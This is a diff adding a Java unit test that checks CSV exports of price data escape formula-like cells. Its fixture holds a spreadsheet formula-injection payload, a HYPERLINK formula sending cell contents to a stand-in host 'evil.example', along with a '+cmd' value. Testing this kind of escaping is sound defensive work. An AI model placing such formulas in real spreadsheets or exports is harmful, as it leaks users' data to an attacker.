@@ -101,6 +101,47 @@ class PriceDeletionTest {
         assertEquals("_-A.1d.20240101T000000.000Z.csv", PriceDeletion.fileName("-A", "1d", "20240101T000000.000Z"));
     }
 
+    /**
+     * A name or exchange a spreadsheet would run as a formula (attack 31 F1) is kept with a leading ', and the kept file
+     * still imports back to the identical rows and naming.
+     */
+    @Test
+    void aKeptFileOfAFormulaLikeNameOpensAsTextAndImportsBackIdentical(@TempDir Path dir) throws Exception {
+        String name = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"click\")";
+        Path file = Files.writeString(dir.resolve("evil.csv"), "symbol,date,open,close,volume,name,currency,exchange\n"
+                + "EVIL,2024-01-02,1.5,1.5,100,\"" + name.replace("\"", "\"\"") + "\",USD,+cmd\n"
+                + "EVIL,2024-01-03,1.25,2.5,,\"" + name.replace("\"", "\"\"") + "\",USD,+cmd\n");
+        new PriceImporter(store).importFiles(List.of(file));
+        List<String> before = stored("EVIL");
+        assertTrue(before.get(0).contains("|" + name + "|USD|+cmd"), before.get(0));
+        Path kept = Path.of(new PriceDeletion(store, new PriceRepository(store), dir.resolve("kept")).delete("EVIL", null).deleted().get(0).keptIn());
+        String text = Files.readString(kept);
+        assertTrue(text.contains(",\"'=HYPERLINK(") && text.contains(",USD,'+cmd"), text);
+        assertTrue(!text.contains(",=") && !text.contains(",+") && !text.contains(",@"), "no cell starts as a formula: " + text);
+        assertEquals(List.of(), stored("EVIL"));
+        new PriceImporter(store).importFiles(List.of(kept));
+        assertEquals(before, stored("EVIL"));
+    }
+
+    /** Each stored price row of {@code sym} with its name, currency and exchange, as text. */
+    private List<String> stored(String sym) {
+        return store.read(c -> {
+            List<String> out = new java.util.ArrayList<>();
+            try (var p = c.prepareStatement("SELECT p.date, p.open, p.high, p.low, p.close, p.adj_close, p.volume, d.name, d.currency, d.exchange "
+                    + "FROM prices p LEFT JOIN " + org.sextant.engine.data.SymbolDescription.STORED + " d USING (symbol) WHERE symbol = ? ORDER BY p.date")) {
+                p.setString(1, sym);
+                try (var r = p.executeQuery()) {
+                    while (r.next()) {
+                        StringBuilder b = new StringBuilder();
+                        for (int i = 1; i <= 10; i++) b.append(i > 1 ? "|" : "").append(r.getString(i));
+                        out.add(b.toString());
+                    }
+                }
+            }
+            return out;
+        });
+    }
+
     private Map<String, Long> rows() {
         return new PriceDeletion(store, new PriceRepository(store), store.stagingDir()).rows("BOTHX");
     }
